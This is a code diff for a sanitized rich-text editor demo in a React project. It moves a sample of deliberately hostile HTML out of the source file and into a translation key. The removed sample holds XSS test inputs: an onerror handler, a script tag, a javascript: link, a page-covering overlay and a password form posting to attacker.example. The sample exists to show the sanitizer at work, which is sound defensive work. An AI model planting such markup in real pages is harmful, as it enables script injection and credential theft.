@@ -13,13 +13,6 @@ import { TextAlign } from '@/components/editors/tiptap-text-align';
 import { Button } from '@/components/ui/button';
 import '@/components/editors/rich-content.css';
 
-const unsafeHtml = `<p>Hello <strong>world</strong>.</p>
-<img src="x" onerror="alert('image')">
-<script>alert('script')</script>
-<p><a href="javascript:alert('link')">A javascript: link</a> and <a href="https://example.com">a web link</a>.</p>
-<p style="position: fixed; inset: 0; color: #dc2626">Red text that tried to cover the page.</p>
-<form action="https://attacker.example"><input name="password" placeholder="Password"></form>`;
-
 export function TiptapEditorSanitized() {
   const { t } = useTranslation('ui-extensions');
   const [html, setHtml] = useState('');
@@ -40,6 +33,8 @@ export function TiptapEditorSanitized() {
     onUpdate: ({ editor }) => setHtml(editor.getHTML()),
   });
   const previewLabels = t('editors.preview', { returnObjects: true }) as HtmlPreviewLabels;
+  // Hostile on purpose, and in the user's language like the rest of the page.
+  const unsafeHtml = t('tiptap-editor.demo.unsafeHtml');
 
   const load = () => {
     editor?.commands.setContent(unsafeHtml);
